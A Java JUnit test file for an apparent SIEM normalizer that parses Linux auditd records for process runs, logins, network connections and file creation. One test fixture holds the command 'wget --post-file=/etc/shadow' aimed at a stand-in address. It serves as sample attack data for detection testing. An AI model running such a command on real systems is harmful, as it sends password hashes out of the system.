package io.nanosiem.normalize;

import static org.assertj.core.api.Assertions.assertThat;

import io.nanosiem.event.AuthenticationOutcome;
import io.nanosiem.event.Event;
import io.nanosiem.event.EventCategory;
import io.nanosiem.event.EventTags;
import io.nanosiem.event.LogFormat;
import io.nanosiem.event.LogSource;
import io.nanosiem.parse.LogParser;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class AuditEventsTest {
  private static final String AT = " msg=audit(1767323045.123:4711): ";

  private static Event read(String record) {
    Event.Builder event = LogParser.auto().parse(record).toBuilder();
    Normalizer.standard().normalize(event);
    return event.build();
  }

  private static String hex(String text) {
    return HexFormat.of().withUpperCase().formatHex(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String user(String type, String message) {
    return "type=" + type + AT + "pid=9 uid=0 auid=4294967295 ses=1 msg='" + message + "'";
  }

  @Test
  void readsAProgramThatWasRun() {
    Event event =
        read(
            "node=db-1 type=SYSCALL"
                + AT
                + "arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2"
                + " ppid=70 pid=77 auid=1000 uid=0 euid=0 comm=\"wget\" exe=\"/usr/bin/wget\""
                + " key=\"x\"\u001DARCH=x86_64 SYSCALL=execve AUID=\"ann\" UID=\"root\""
                + " EUID=\"root\"\n"
                + "node=db-1 type=EXECVE"
                + AT
                + "argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2="
                + hex("http://192.0.2.7/a b")
                + "\nnode=db-1 type=CWD"
                + AT
                + "cwd=\"/root\"\nnode=db-1 type=PROCTITLE"
                + AT
                + "proctitle=\"wget\"");

    assertThat(event.logSource()).isEqualTo(new LogSource("process_creation", "linux", "auditd"));
    assertThat(event.category()).isEqualTo(EventCategory.PROCESS);
    assertThat(event.host()).isEqualTo("db-1");
    assertThat(event.program()).isEqualTo("wget");
    assertThat(event.pid()).hasValue(77);
    assertThat(event.user()).isEqualTo("ann");
    String line = "wget --post-file=/etc/shadow http://192.0.2.7/a b";
    assertThat(event.field("process.command_line")).isEqualTo(line);
    assertThat(event.field("CommandLine")).isEqualTo(line);
    assertThat(event.field("Image")).isEqualTo("/usr/bin/wget");
    assertThat(event.field("CurrentDirectory")).isEqualTo("/root");
    assertThat(event.field("User")).isEqualTo("root");
    assertThat(event.field("ProcessId")).isEqualTo(77L);
    assertThat(event.field("ParentProcessId")).isEqualTo(70L);
    assertThat(event.authenticationOutcome()).isNull();
  }

  @Test
  void readsTheRecordsOfARunAlone() {
    Event execve = read("type=EXECVE" + AT + "argc=2 a0=\"/usr/bin/id\" a1=\"-u\"");
    assertThat(execve.field("Image")).isEqualTo("/usr/bin/id");
    assertThat(execve.field("CommandLine")).isEqualTo("/usr/bin/id -u");
    assertThat(execve.logSource().category()).isEqualTo("process_creation");

    Event named = read("type=EXECVE" + AT + "argc=1 a0=\"id\"");
    assertThat(named.field("Image")).isNull();
    assertThat(named.field("CommandLine")).isEqualTo("id");
  }

  @Test
  void aRunThatFailedRanNothing() {
    Event event =
        read(
            "type=SYSCALL"
                + AT
                + "arch=c000003e syscall=59 success=no exit=-2 pid=7 exe=\"/usr/bin/bash\"");

    assertThat(event.logSource()).isEqualTo(LogSource.of("linux", "auditd"));
    assertThat(event.field("Image")).isNull();
    assertThat(event.field("SYSCALL")).isEqualTo("execve");
  }

  @ParameterizedTest
  @CsvSource({
    "c000003e, 59, execve",
    "40000003, 11, execve",
    "c00000b7, 221, execve",
    "c000003e, 103, syslog",
    "c000003e, 319, memfd_create",
    "c00000b7, 281, execveat"
  })
  void namesSystemCallsByArchitecture(String arch, String number, String name) {
    assertThat(read("type=SYSCALL" + AT + "arch=" + arch + " syscall=" + number).field("SYSCALL"))
        .isEqualTo(name);
  }

  @Test
  void doesNotGuessTheCallOfAnUnknownArchitecture() {
    Event event = read("type=SYSCALL" + AT + "arch=80000016 syscall=59 success=yes exe=\"/x\"");
    assertThat(event.field("SYSCALL")).isNull();
    assertThat(event.logSource().category()).isNull();
  }

  @ParameterizedTest
  @CsvSource({
    "USER_LOGIN, op=login, /usr/sbin/sshd, FAILURE",
    "USER_AUTH, op=PAM:authentication, /usr/sbin/sshd,",
    "USER_AUTH, op=password, /usr/libexec/openssh/sshd-session,",
    "USER_AUTH, op=PAM:authentication, /usr/bin/sudo, FAILURE",
    "USER_ACCT, op=PAM:accounting, /usr/sbin/sshd,",
    "CRED_ACQ, op=PAM:setcred, /usr/sbin/sshd,"
  })
  void countsAnAttemptOnce(
      String type, String operation, String executable, AuthenticationOutcome outcome) {
    Event event =
        read(
            user(
                type,
                operation
                    + " acct=\"ann\" exe=\""
                    + executable
                    + "\" hostname=? addr=192.0.2.7 terminal=ssh res=failed"));

    assertThat(event.authenticationOutcome()).isEqualTo(outcome);
    assertThat(event.category()).isEqualTo(EventCategory.AUTHENTICATION);
    assertThat(event.user()).isEqualTo("ann");
    assertThat(event.sourceAddress()).isEqualTo("192.0.2.7");
    assertThat(event.pid()).hasValue(9);
    assertThat(event.logSource()).isEqualTo(LogSource.of("linux", "auditd"));
  }

  @Test
  void takesTheHostNameWhereItIsTheAddress() {
    Event event =
        read(
            user(
                "USER_LOGIN",
                "op=login acct="
                    + hex("(unknown)")
                    + " exe=\"/usr/sbin/sshd\" hostname=2001:DB8::1 addr=? terminal=ssh"
                    + " res=success"));

    assertThat(event.sourceAddress()).isEqualTo("2001:db8::1");
    assertThat(event.user()).isNull();
    assertThat(event.authenticationOutcome()).isEqualTo(AuthenticationOutcome.SUCCESS);
  }

  @Test
  void aUserWhoBecomesAnotherIsTheCaller() {
    Event event =
        read(
            "type=USER_AUTH"
                + AT
                + "pid=9 uid=1000 auid=1000 msg='op=PAM:authentication acct=\"root\""
                + " exe=\"/usr/bin/su\" hostname=? addr=? terminal=pts/0 res=success'"
                + "\u001DUID=\"ann\" AUID=\"ann\"");

    assertThat(event.user()).isEqualTo("ann");
    assertThat(event.field("user.effective.name")).isEqualTo("root");
    assertThat(event.tags()).containsExactly(EventTags.PRIVILEGE_ESCALATION);
  }

  @Test
  void aUserWhoIsChangedIsNotTheOneWhoActs() {
    Event event =
        read(
            "type=ADD_USER"
                + AT
                + "pid=9 uid=0 auid=1000 msg='op=add-user acct=\"bob\" exe=\"/usr/sbin/useradd\""
                + " res=success'\u001DUID=\"root\" AUID=\"ann\"");

    assertThat(event.user()).isEqualTo("ann");
    assertThat(event.field("user.target.name")).isEqualTo("bob");
    assertThat(event.category()).isEqualTo(EventCategory.IAM);
  }

  @ParameterizedTest
  @CsvSource({
    // 0x01bb is 443; c0000207 is 192.0.2.7.
    "020001BBC00002070000000000000000, 192.0.2.7",
    "000201BBC00002070000000000000000, 192.0.2.7",
    "0A0001BB0000000020010DB800000000000000000000000100000000, 2001:db8::1"
  })
  void decodesTheSocketItConnectsTo(String socket, String address) {
    Event event =
        read(
            "type=SYSCALL"
                + AT
                + "arch=c000003e syscall=42 success=yes pid=7 exe=\"/usr/bin/nc\"\ntype=SOCKADDR"
                + AT
                + "saddr="
                + socket);

    assertThat(event.destinationAddress()).isEqualTo(address);
    assertThat(event.destinationPort()).hasValue(443);
    assertThat(event.logSource()).isEqualTo(new LogSource("network_connection", "linux", "auditd"));
    assertThat(event.field("DestinationIp")).isEqualTo(address);
    assertThat(event.field("Initiated")).isEqualTo("true");
  }

  @Test
  void thePeerOfAnAcceptedConnectionIsTheSource() {
    Event event =
        read(
            "type=SYSCALL"
                + AT
                + "arch=c000003e syscall=288 success=yes\ntype=SOCKADDR"
                + AT
                + "saddr=020001BBC0000207");

    assertThat(event.sourceAddress()).isEqualTo("192.0.2.7");
    assertThat(event.destinationAddress()).isNull();
  }

  @ParameterizedTest
  @CsvSource({"0100, ''", "02, ''", "02000, ''", "zz0001BBC0000207, ''", "0A0001BB00, ''"})
  void livesWithSocketsOfOtherFamilies(String socket, String ignored) {
    Event event = read("type=SOCKADDR" + AT + "saddr=" + socket);
    assertThat(event.destinationAddress()).isNull();
    assertThat(ignored).isEmpty();
  }

  @Test
  void readsAFileThatWasMade() {
    Event event =
        read(
            "type=SYSCALL"
                + AT
                + "arch=c000003e syscall=257 success=yes pid=7 exe=\"/usr/bin/cp\"\ntype=CWD"
                + AT
                + "cwd=\"/etc\"\ntype=PATH"
                + AT
                + "item=0 name=\"/etc\" nametype=PARENT\ntype=PATH"
                + AT
                + "item=1 name=\"./cron.d/x\" nametype=CREATE");

    assertThat(event.field("TargetFilename")).isEqualTo("/etc/cron.d/x");
    assertThat(event.logSource().category()).isEqualTo("file_event");
    assertThat(event.category()).isEqualTo(EventCategory.FILE);
  }

  @Test
  void readsTheJsonOfTheCollector() {
    Event event =
        read(
            "{\"type\":\"EXECVE\",\"audit_id\":\"1767323045.123:4711\",\"auoms_version\":\"2\","
                + "\"node\":\"db-1\",\"arch\":\"x86_64\",\"syscall\":\"execve\",\"success\":\"yes\","
                + "\"ppid\":\"70\",\"pid\":\"77\",\"audit_user\":\"unset\",\"user\":\"www\","
                + "\"effective_user\":\"www\",\"comm\":\"id\",\"exe\":\"/usr/bin/id\",\"cwd\":\"/\","
                + "\"a0\":\"7ff\",\"argc\":\"2\",\"cmdline\":\"id -u\"}");

    assertThat(event.format()).isEqualTo(LogFormat.JSON);
    assertThat(event.time()).isEqualTo(Instant.parse("2026-01-02T03:04:05.123Z"));
    assertThat(event.host()).isEqualTo("db-1");
    assertThat(event.user()).isEqualTo("www");
    assertThat(event.field("CommandLine")).isEqualTo("id -u");
    assertThat(event.field("Image")).isEqualTo("/usr/bin/id");
    assertThat(event.logSource().category()).isEqualTo("process_creation");
  }

  @Test
  void aFieldOfTheSenderDoesNotMakeItAnAuditEvent() {
    Event event =
        read(
            "{\"auditd.message_type\":\"user_login\",\"type\":\"USER_LOGIN\",\"acct\":\"root\","
                + "\"res\":\"success\"}");

    assertThat(event.logSource().isUnknown()).isTrue();
    assertThat(event.authenticationOutcome()).isNull();
  }
}
